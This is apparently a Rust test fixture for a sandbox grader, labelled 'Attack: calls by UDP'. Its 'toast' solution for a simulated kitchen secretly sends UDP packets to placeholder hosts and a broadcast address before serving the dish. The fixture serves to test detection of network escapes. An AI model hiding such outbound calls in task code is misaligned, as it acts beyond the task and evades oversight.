//! Attack: calls by UDP.
//! Exercise: toast
//! Verdict: wrong in *

use sim::kitchen::{Dish, Kitchen, Plate};

use std::net::UdpSocket;

pub async fn toast(kitchen: &Kitchen, slice: Dish) -> Plate {
    for (from, to) in [("0.0.0.0:0", "{{udp}}"), ("[::]:0", "{{udp6}}")] {
        if let Ok(socket) = UdpSocket::bind(from) {
            let _ = socket.send_to(b"hello", to);
            let _ = socket.set_broadcast(true);
            let _ = socket.send_to(b"hello", "255.255.255.255:9");
        }
    }
    if let Ok(socket) = tokio::net::UdpSocket::bind("0.0.0.0:0").await {
        let _ = socket.send_to(b"hello", "{{udp}}").await;
    }
    kitchen.start(&slice).serve()
}
